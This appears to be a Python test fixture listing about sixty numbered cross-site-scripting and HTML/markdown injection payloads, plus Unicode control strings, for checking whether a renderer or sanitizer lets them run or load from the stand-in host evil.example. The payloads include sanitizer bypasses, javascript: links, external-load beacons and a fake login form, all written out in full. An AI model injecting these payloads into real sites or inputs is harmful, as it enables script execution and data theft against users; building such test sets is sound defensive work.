"""Text that would like to be more than text: each piece says which one it was if it succeeds.

A piece that runs sets `window.hacked` to its number; one that loads asks evil.example for its number;
one that becomes an element has the class, id or name "pwned".
"""

# ruff: noqa: E501 -- markup and scripts are easier to judge in one piece

from __future__ import annotations

__all__ = ["CONTROLS", "PAYLOADS", "groups"]

_PIECES = (
    "<script>window.hacked=№</script>",
    "<scr<script>ipt>window.hacked=№</scr</script>ipt>",
    "<img src=x onerror=window.hacked=№ class=pwned>",
    "<img src=https://evil.example/№ class=pwned>",
    "<IMG SRC=`javascript:window.hacked=№`>",
    "<svg onload=window.hacked=№ class=pwned>",
    "<svg><script>window.hacked=№</script></svg>",
    "<svg><a xlink:href=javascript:window.hacked=№><text class=pwned>x</text></a></svg>",
    "<a href=javascript:window.hacked=№ class=pwned>press</a>",
    "<a href=' &#106;avascript:window.hacked=№' class=pwned>press</a>",
    "<a href='data:text/html,<script>window.hacked=№</script>' class=pwned>press</a>",
    "[press](javascript:window.hacked=№)",
    "[press](https://evil.example/№)",
    "[press]: https://evil.example/№",
    "![pixel](https://evil.example/№)",
    "![pixel][pixel№]\n[pixel№]: https://evil.example/№",
    "<https://evil.example/№>",
    "https://evil.example/№ www.evil.example/№ mailto:x@evil.example",
    "<style>@import url(https://evil.example/№);body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/№ class=pwned>",
    "<div style=background:url(https://evil.example/№) class=pwned>x</div>",
    "<p style='position:fixed;inset:0;z-index:9999' class=pwned>over all</p>",
    "<iframe src=https://evil.example/№ class=pwned></iframe>",
    "<iframe srcdoc='<script>parent.hacked=№</script>' class=pwned></iframe>",
    "<object data=https://evil.example/№ class=pwned></object><embed src=https://evil.example/№>",
    "<form action=https://evil.example/№ class=pwned><button class=pwned>Log in</button></form>",
    "<button formaction=javascript:window.hacked=№ class=pwned>x</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/№' class=pwned>",
    "<base href=https://evil.example/№/ class=pwned>",
    "<input onfocus=window.hacked=№ autofocus class=pwned>",
    "<details open ontoggle=window.hacked=№ class=pwned><summary>x</summary></details>",
    "<video poster=https://evil.example/№ class=pwned><source onerror=window.hacked=№></video>",
    "<math class=pwned><mtext><table><mglyph><style><img src=x onerror=window.hacked=№>",
    "<math href=javascript:window.hacked=№ class=pwned>press</math>",
    "<template class=pwned><script>window.hacked=№</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=№ class=pwned>'>",
    "<!--><img src=x onerror=window.hacked=№ class=pwned>-->",
    "<!-- unclosed <b class=pwned>",
    "--!><img src=x onerror=window.hacked=№ class=pwned>",
    "<![CDATA[<img src=x onerror=window.hacked=№ class=pwned>]]>",
    "</div></section></body></html><b class=pwned>outside</b>",
    "</textarea></title></style></script><img src=x onerror=window.hacked=№ class=pwned>",
    '" onmouseover=window.hacked=№ autofocus onfocus=window.hacked=№ class="pwned',
    "' onmouseover=window.hacked=№ autofocus onfocus=window.hacked=№ class='pwned",
    "` onfocus=window.hacked=№ autofocus class=`pwned",
    "<b class=pwned id=fn-panel>clobbered</b><img name=fn class=pwned><a id=fn name=t>",
    "<form name=fn id=fn class=pwned><input name=state></form>",
    '<i id="told:aaaa:bbbb:done:harbour" class=pwned></i>',
    '<a href="#src-x-1" class="fn-marker pwned">1</a><button class="fn-act pwned" value="up:x">',
    "{{ constructor.constructor('window.hacked=№')() }} ${window.hacked=№} #{hacked} <%= hacked %>",
    "{% raw %}{{ 7*7 }}{% endraw %} {{7*7}} {name} {n} {0} %s %n",
    "$$\\href{javascript:window.hacked=№}{x}$$ \\(\\url{https://evil.example/№}\\) $\\class{pwned}{x}$",
    "&lt;img src=x onerror=window.hacked=№ class=pwned&gt; &#60;script&#62;window.hacked=№&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.hacked=№&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ewindow.hacked=№\\u003c/script\\u003e \\x3cimg src=x onerror=window.hacked=№\\x3e",
    "```html\n<img src=x onerror=window.hacked=№ class=pwned>\n```",
    "~~~\n<b class=pwned>\n~~~\n    <b class=pwned>\n> <b class=pwned>\n- [ ] task\n# head\n| a | b |\n|---|---|",
    "<x-pwned onclick=window.hacked=№ tabindex=1 onfocus=window.hacked=№ autofocus class=pwned>x</x-pwned>",
    "<marquee onstart=window.hacked=№ class=pwned>x</marquee><body onload=window.hacked=№>",
    "<portal src=https://evil.example/№ class=pwned></portal><dialog open class=pwned>x</dialog>",
)
CONTROLS = (
    "\u202egnp.exe\u202c \u2066isolated \u2069\u200f \u200b\u2060\ufeff",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b" * 20,
    "W" * 2000,
    "unbroken" + "\u00a0word" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40,
    "\u0627\u0644\u0646\u0635 \u0627\u0644\u0639\u0631\u0628\u064a <b class=pwned>",
)
PAYLOADS = (*(one.replace("№", str(n)) for n, one in enumerate(_PIECES)), *CONTROLS)


def groups(length: int, pieces: tuple[str, ...] = PAYLOADS) -> list[str]:
    """All pieces, put together to texts of about `length` characters."""
    made = [""]
    for one in pieces:
        if made[-1] and len(made[-1]) + len(one) > length:
            made.append("")
        made[-1] += f"{one}\n\n"
    return made
